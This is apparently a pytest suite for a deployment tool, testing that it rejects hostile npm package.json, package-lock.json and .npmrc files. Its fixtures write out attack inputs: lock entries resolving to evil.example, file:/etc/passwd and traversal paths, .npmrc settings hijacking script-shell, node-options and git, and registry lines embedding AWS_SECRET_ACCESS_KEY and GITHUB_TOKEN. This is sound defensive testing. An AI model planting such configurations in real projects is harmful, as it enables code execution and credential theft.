"""package.json, package-lock.json and .npmrc of a hostile repository, with npm as it is."""

import http.server
import json
import shutil
import subprocess
import threading

import pytest

if not shutil.which("npm"):
    pytest.skip("no npm", allow_module_level=True)

SERVICE = "service: x\nregion: us-east-1\nfunctions: {f: {handler: h/app.f, runtime: nodejs22.x}}\n"
GOOD = {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-AA=="}


@pytest.fixture
def service(hostile):
    hostile.write("service.yml", SERVICE)
    hostile.write("h/app.mjs", "export const f = 1\n")
    evil = hostile.write("evil.sh", f"#!/bin/sh\ntouch {hostile.proof}\n", 0o755)
    hostile.evil = str(evil)
    hostile.environment["NPM_CONFIG_CACHE"] = str(hostile.folder / "npm-cache")
    return hostile


@pytest.fixture
def registry():
    asked = []

    class Registry(http.server.BaseHTTPRequestHandler):
        def log_message(self, *_):
            pass

        def do_GET(self):
            asked.append((self.path, str(self.headers)))
            self.send_error(404)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


def packages(service, entries, package=None, **lock):
    root = package or {"name": "x", "version": "1.0.0", "dependencies": {"a": "1.0.0"}}
    service.write("package.json", json.dumps(root, indent=1))
    service.write("package-lock.json", json.dumps({"name": "x", "lockfileVersion": 3, "packages": {"": root, **entries}, **lock}, indent=1))


SOURCES = ["http://registry.example/a.tgz", "git+ssh://git@example.com/a.git#1", "git://example.com/a", "git+file:///x", "github:a/a", "file:a.tgz", "file:/etc/passwd",
           "file:../a.tgz", "/etc/passwd", "../a", "ftp://example.com/a.tgz", "HTTP://registry.example/a.tgz", "ssh://x", "https:/x", "https://", "https://x/${HOME}", "a"]


@pytest.mark.parametrize("source", SOURCES)
def test_sources(service, source):
    packages(service, {"node_modules/a": {**GOOD, "resolved": source}})
    service.run("package").finding("E317", "package-lock.json:14:")


@pytest.mark.parametrize("source", [s for s in SOURCES if s != "a"] + ["npm:b@1", "latest #x", ["1.0.0"], {"a": "1.0.0"}])
@pytest.mark.parametrize("key", ["version", "name"])
def test_identity(service, key, source):
    """npm fetches NAME@VERSION where there is no `resolved`, also from git or a folder of the machine."""
    packages(service, {"node_modules/a": {"version": "1.0.0", "integrity": GOOD["integrity"], key: source}},
             {"name": "x", "version": "1.0.0", "dependencies": {"a": "*"}})
    service.run("package").finding("E317", "package-lock.json:1")


@pytest.mark.parametrize("last", ["null", "false", '""', "[]"])
def test_packages_twice(service, last):
    """npm takes the last, and where that is none, the sources of a lock of version 1."""
    packages(service, {}, {"name": "x", "version": "1.0.0", "dependencies": {"a": "*"}},
             dependencies={"a": {"version": "git+file:///tmp/x", "from": "a@*"}})
    lock = (service.repository / "package-lock.json").read_text()
    for name in ("packages", r"p\u0061ckages"):
        service.write("package-lock.json", f'{lock.rsplit("}", 1)[0]},\n "{name}": {last}\n}}\n')
        service.run("package").finding("E317", "package-lock.json:")


@pytest.mark.parametrize("path", ["../a", "../../node_modules/a", "/tmp/node_modules/a", "node_modules/../../a", "node_modules\\..\\a", "C:/node_modules/a"])
def test_paths(service, path):
    packages(service, {path: GOOD})
    service.run("package").finding("E317", "package-lock.json:1")
    packages(service, {"node_modules/a": {"resolved": path, "link": True}})
    service.run("package").finding("E317", "package-lock.json:1")


@pytest.mark.parametrize("integrity", [None, "", "md5-AA==", "shazam", "sha512-", 1, False])
def test_integrity(service, integrity):
    packages(service, {"node_modules/a": {**GOOD, "integrity": integrity}})
    service.run("package").finding("E318", "package-lock.json:12:")
    packages(service, {"node_modules/a": {**GOOD, "inBundle": True, "integrity": integrity}})
    service.run("package").finding("E318", "package-lock.json:12:")


@pytest.mark.parametrize("key", ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "overrides"])
@pytest.mark.parametrize("spec", ["github:a/a", "a/a", "git+ssh://git@example.com/a.git", "http://example.com/a.tgz", "file:/etc", "file:../a", "../a", "/a", "./a",
                                  "npm:git+ssh://x", "link:../a", "https://example.com/a.tgz"])
def test_what_is_no_version(service, key, spec):
    packages(service, {"node_modules/a": GOOD}, {"name": "x", "version": "1.0.0", "dependencies": {"a": "1.0.0"}, **{key: {"a": "1.0.0", "b": spec}}})
    result = service.run("package")
    assert any("E317" in line and "package.json:" in line for line in result.all.splitlines()), result.all
    packages(service, {"node_modules/a": {**GOOD, key: {"b": spec}}})
    service.run("package").finding("E317", "package-lock.json:1")


def test_keys_that_stand_twice(service):
    """npm takes the last."""
    packages(service, {"node_modules/a": GOOD})
    text = (service.repository / "package-lock.json").read_text()
    for more, code in (('"resolved": "http://evil.example/a.tgz"', "E317"), ('"integrity": ""', "E318"), ('"resolv\\u0065d": "git://evil.example/a"', "E317"),
                       ('"link": true, "link": false, "integrity": 1', "E318")):
        service.write("package-lock.json", text.replace('"integrity": "sha512-AA=="', f'"integrity": "sha512-AA==", {more}'))
        service.run("package").finding(code, "package-lock.json:1")
    service.write("package-lock.json", text[:-1].rstrip() + ', "packages": {"node_modules/a": {"resolved": "git://evil.example/a"}}}')
    service.run("package").finding("E317", "package-lock.json:")


def test_an_old_lock(service):
    service.write("package.json", '{"name": "x", "version": "1.0.0", "dependencies": {"a": "1.0.0"}}')
    service.write("package-lock.json", '{"lockfileVersion": 1, "dependencies": {"a": {"version": "git+ssh://git@example.com/a.git#1"}}}')
    service.run("package").finding("E317", "package-lock.json:1:")


def tarball(service, scripts):
    """A package of that name in npm's cache, and its entry of a lock."""
    folder = service.folder / "made/package"
    folder.mkdir(parents=True)
    (folder / "package.json").write_text(json.dumps({"name": "a", "version": "1.0.0", "scripts": scripts, "bin": {"node": "evil.sh"}}))
    (folder / "index.js").write_text("module.exports = 1\n")
    shutil.copy(service.evil, folder / "evil.sh")
    (folder / "binding.gyp").write_text("{}")
    file = service.folder / "a-1.0.0.tgz"
    subprocess.run(["tar", "-czf", file, "-C", folder.parent, "package"], check=True)
    environment = {name: service.environment[name] for name in ("PATH", "HOME", "NPM_CONFIG_CACHE")}
    subprocess.run(["npm", "cache", "add", str(file)], env=environment, cwd=service.folder, check=True, capture_output=True)
    import base64, hashlib
    digest = base64.b64encode(hashlib.sha512(file.read_bytes()).digest()).decode()
    return {**GOOD, "integrity": f"sha512-{digest}", "hasInstallScript": True}


def test_no_script_runs(service):
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "prepublish", "dependencies", "preprepare", "test"), service.evil)
    packages(service, {"node_modules/a": tarball(service, scripts)}, {"name": "x", "version": "1.0.0", "dependencies": {"a": "1.0.0"}, "scripts": scripts})
    service.write(".npmrc", f"ignore-scripts=false\nscript-shell={service.evil}\ngit={service.evil}\nnode-gyp={service.evil}\nshell={service.evil}\nprefix={service.repository}\n"
                  f"node-options=--require={service.evil}\nregistry=http://127.0.0.1:9/\nuserconfig={service.repository}/.npmrc\nglobalconfig={service.repository}/.npmrc\n")
    service.write("node_modules/.bin/node", f"#!/bin/sh\ntouch {service.proof}\n", 0o755)
    shutil.rmtree(service.repository / "node_modules")
    result = service.run("package", NPM_CONFIG_OFFLINE="true", seconds=60)
    assert result.status == 0, result.all
    assert not (service.repository / "node_modules").exists()


def test_registries(service, registry):
    """Of the repository's a scope's counts where the user's own configuration knows it; its credentials never do."""
    url, asked = registry
    entry = {name: value for name, value in GOOD.items() if name != "resolved"}
    packages(service, {"node_modules/@x/a": entry}, {"name": "x", "version": "1.0.0", "dependencies": {"@x/a": "1.0.0"}})
    service.write(".npmrc", f"@x:registry={url}/private/\n//{url.split('//')[1]}/:_authToken=${{AWS_SECRET_ACCESS_KEY}}\nregistry={url}/${{GITHUB_TOKEN}}/\n")
    limits = {"NPM_CONFIG_FETCH_RETRIES": "0", "NPM_CONFIG_REGISTRY": "http://127.0.0.1:9/", "seconds": 60}
    service.run("package", **limits).finding("W316", ".npmrc:1:")
    assert not asked
    (service.home / ".npmrc").write_text(f"//{url.split('//')[1]}/private/:_authToken=${{USERS_TOKEN}}\n")
    result = service.run("package", USERS_TOKEN="of-the-user", **limits)
    assert "W316" not in result.all
    assert asked and all(path.startswith("/private/") for path, _ in asked)
    assert "HOSTILEMARK" not in str(asked) and "of-the-user" in str(asked)
    for other in (f"{url}/privat", f"{url}.evil.example/private/", f"{url}/private/${{HOME}}/", "http://evil.example/private/", f"http://u:p@{url.split('//')[1]}/private/"):
        service.write(".npmrc", f"\n@x:registry={other}\n")
        service.run("package", **limits).finding("W316", ".npmrc:2:")


@pytest.mark.parametrize("entry, code", [
    ({**GOOD, "resolved": "http://registry.example/a.tgz"}, "E317"), ({**GOOD, "integrity": ""}, "E318"), ({"version": "git+ssh://x/a.git"}, "E317"), ({**GOOD, "hasShrinkwrap": True}, "E317"),
])
def test_validate_finds_it(service, entry, code):
    """Without npm, which only package and deploy run."""
    packages(service, {"node_modules/a": entry})
    service.environment["PATH"] = "/nowhere"
    for command in ("validate", "generate", "package"):
        service.run(command).finding(code, "package-lock.json:1")


def test_validate_takes_a_good_lock(service):
    packages(service, {"node_modules/a": GOOD, "node_modules/b": {**GOOD, "dev": True, "hasShrinkwrap": True}})
    result = service.run("validate")
    assert result.status == 0, result.all


def test_one_lock_of_many_functions(service):
    service.write("service.yml", SERVICE.replace("functions: {", "functions: {g: {handler: i/app.f, runtime: nodejs22.x}, "))
    service.write("i/app.mjs", "export const f = 1\n")
    packages(service, {"node_modules/a": {**GOOD, "hasShrinkwrap": True}})
    assert service.run("validate").all.count("[E317]") == 1
